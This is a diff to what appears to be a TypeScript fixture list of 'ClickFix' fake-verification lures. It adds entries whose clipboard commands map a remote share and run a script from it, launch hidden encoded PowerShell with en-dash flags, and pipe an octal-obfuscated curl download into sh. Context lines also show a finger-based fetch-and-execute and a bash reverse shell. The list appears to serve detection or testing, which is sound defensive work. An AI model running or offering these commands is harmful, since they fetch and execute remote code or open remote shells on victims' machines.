@@ -178,6 +178,25 @@ export const CLICKFIX_PAGES: readonly ClickFixPage[] = [
     frame: 'top',
     command: `start "" /min for /f "skip=8 delims=" %h in ('finger a1b2c3@finger.check-human.example') do call %h`,
   },
+  // Another machine's share mapped to a drive, then a script run from it.
+  {
+    id: 'turnstile-share-run',
+    lure: 'turnstile',
+    path: 'writeText',
+    when: 'click',
+    frame: 'top',
+    command: 'net use Z: \\\\files.check-human.example@80\\verify /persistent:no && Z:\\verify.cmd',
+  },
+  // PowerShell's parameters behind en dashes, which it reads as its dash.
+  {
+    id: 'recaptcha-en-dash',
+    lure: 'recaptcha',
+    path: 'write',
+    when: 'click',
+    frame: 'top',
+    command:
+      'powershell \u2013w h \u2013e JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0AA==',
+  },
   {
     id: 'turnstile-rundll',
     lure: 'turnstile',
@@ -328,6 +347,15 @@ export const CLICKFIX_PAGES: readonly ClickFixPage[] = [
     when: 'click',
     frame: 'top',
     command: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
+  },
+  // A script spelt in octal escapes, printed into a shell.
+  {
+    id: 'macos-printf-escapes',
+    lure: 'macos',
+    path: 'writeText',
+    when: 'click',
+    frame: 'top',
+    command: "printf '\\143\\165\\162\\154 -s https://macos-verify.example/a | sh' | sh",
   },
   // In frames: a check widget from another site, and one the page wrote itself.
   {
